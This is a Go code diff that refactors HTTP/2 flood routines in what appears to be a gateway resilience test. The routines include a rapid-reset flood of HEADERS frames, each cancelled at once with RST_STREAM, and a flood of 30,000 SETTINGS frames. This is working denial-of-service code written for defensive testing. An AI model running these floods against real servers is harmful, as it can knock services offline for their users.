@@ -189,21 +189,18 @@ func handshakes(a attacker) (sent int, err error) {
 	return sent, nil
 }
 
+// until sends frames on one connection as long as send, which is given the number of frames sent before, succeeds.
+//
 //nolint:nilerr // the gateway may end the connection
-func resets(a attacker) (sent int, err error) {
+func (a attacker) until(most int, send func(f *flooder, before int) error) (sent int, err error) {
 	f, err := a.dial()
 	if err != nil {
 		return 0, err
 	}
 	_ = f.conn.SetDeadline(time.Now().Add(floodTime)) // the connection is open
 	ended := drain(f.conn)
-	block := headers("x", "y")
-	for id := uint32(1); id < 60_000; id += 2 {
-		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
-		if err == nil {
-			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
-		}
-		if err != nil {
+	for sent < most {
+		if err := send(f, sent); err != nil {
 			break // the gateway has closed the connection
 		}
 		a.count(&sent)
@@ -213,23 +210,22 @@ func resets(a attacker) (sent int, err error) {
 	return sent, nil
 }
 
-//nolint:nilerr // the gateway may end the connection
-func settings(a attacker) (sent int, err error) {
-	f, err := a.dial()
-	if err != nil {
-		return 0, err
-	}
-	_ = f.conn.SetDeadline(time.Now().Add(floodTime)) // the connection is open
-	ended := drain(f.conn)
-	for sent < 30_000 {
-		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65_535 + sent)}); err != nil {
-			break
+func resets(a attacker) (sent int, err error) {
+	block := headers("x", "y")
+	return a.until(30_000, func(f *flooder, before int) error {
+		id := uint32(2*before + 1)
+		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
+		if err == nil {
+			err = f.WriteRSTStream(id, http2.ErrCodeCancel)
 		}
-		a.count(&sent)
-	}
-	_ = f.conn.Close()
-	<-ended
-	return sent, nil
+		return err
+	})
+}
+
+func settings(a attacker) (sent int, err error) {
+	return a.until(30_000, func(f *flooder, before int) error {
+		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65_535 + before)})
+	})
 }
 
 func endless(a attacker) (sent int, err error) {
